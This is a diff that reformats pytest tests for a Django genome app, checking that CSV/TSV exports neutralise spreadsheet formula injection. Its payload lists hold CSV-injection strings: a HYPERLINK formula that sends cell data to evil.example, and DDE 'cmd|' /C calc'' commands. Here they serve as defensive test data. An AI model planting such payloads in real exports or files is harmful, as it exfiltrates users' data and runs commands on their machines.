@@ -24,13 +24,22 @@ from tests.genotypes.factories import SnpFactory, SnpInterpretationFactory
 pytestmark = pytest.mark.django_db
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _export(client, member) -> zipfile.ZipFile:
     client.force_login(member)
-    assert client.post(reverse("account_reauthenticate"), {"password": TEST_PASSWORD}).status_code == 302
+    assert (
+        client.post(reverse("account_reauthenticate"), {"password": TEST_PASSWORD}).status_code
+        == 302
+    )
     response = client.post(reverse("genotypes:export"))
     assert response.status_code == 200 and response["Content-Type"] == "application/zip"
     return zipfile.ZipFile(io.BytesIO(response.content))
@@ -38,7 +47,9 @@ def _export(client, member) -> zipfile.ZipFile:
 
 def _cells(text: str, delimiter: str) -> list[str]:
     lines = [line for line in text.splitlines(keepends=True) if not line.startswith("#")]
-    return [cell for row in csv.reader(io.StringIO("".join(lines)), delimiter=delimiter) for cell in row]
+    return [
+        cell for row in csv.reader(io.StringIO("".join(lines)), delimiter=delimiter) for cell in row
+    ]
 
 
 @pytest.mark.parametrize("prefix", FORMULA_STARTS, ids=repr)
@@ -50,12 +61,18 @@ def test_csv_safe_neutralises_each_formula_start(prefix):
 def test_results_csv_neutralises_formulas_in_editor_written_text(client):
     member = MemberFactory()
     for index, payload in enumerate(PAYLOADS):
-        snp = SnpFactory(rsid=f"rs{7100 + index}", gene=payload[:40], chromosome="1", ref="A", alt="G")
+        snp = SnpFactory(
+            rsid=f"rs{7100 + index}", gene=payload[:40], chromosome="1", ref="A", alt="G"
+        )
         SnpInterpretationFactory(snp=snp, genotype="AG", text=payload)
     include = {snp.rsid: "AG" for snp in Snp.objects.all()}
     upload = services.genome_upload_create(
-        user=member, consent=True,
-        file=SimpleUploadedFile("genome.txt", generate_genome("23andme", n_snps=500, seed=3, include=include)))
+        user=member,
+        consent=True,
+        file=SimpleUploadedFile(
+            "genome.txt", generate_genome("23andme", n_snps=500, seed=3, include=include)
+        ),
+    )
     services.genome_upload_process(upload_id=upload.pk, task_id="t")
     assert GenomeUpload.objects.get(pk=upload.pk).status == "done"
     assert SnpInterpretation.objects.count() == len(PAYLOADS)
@@ -74,13 +91,22 @@ def test_genome_tsv_neutralises_formulas_in_ids_from_the_uploaded_file(client):
     crafted = ['=HYPERLINK("http://evil.example","x")', "+cmd", "-2+3", "@SUM(1+1)"]
     genome += [f"{name}\t1\t{1000 + index}\tAG" for index, name in enumerate(crafted)]
     upload = services.genome_upload_create(
-        user=member, consent=True, file=SimpleUploadedFile("genome.txt", ("\n".join(genome) + "\n").encode()))
+        user=member,
+        consent=True,
+        file=SimpleUploadedFile("genome.txt", ("\n".join(genome) + "\n").encode()),
+    )
     services.genome_upload_process(upload_id=upload.pk, task_id="t")
     assert GenomeUpload.objects.get(pk=upload.pk).status == "done"
 
     tsv = _export(client, member).read("genlife-genome.tsv").decode()
-    rows = list(csv.reader(io.StringIO("".join(
-        line for line in tsv.splitlines(keepends=True) if not line.startswith("#"))), delimiter="\t"))
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                "".join(line for line in tsv.splitlines(keepends=True) if not line.startswith("#"))
+            ),
+            delimiter="\t",
+        )
+    )
     ids = [row[0] for row in rows[1:]]
     for name in crafted:
         assert f"'{name}" in ids
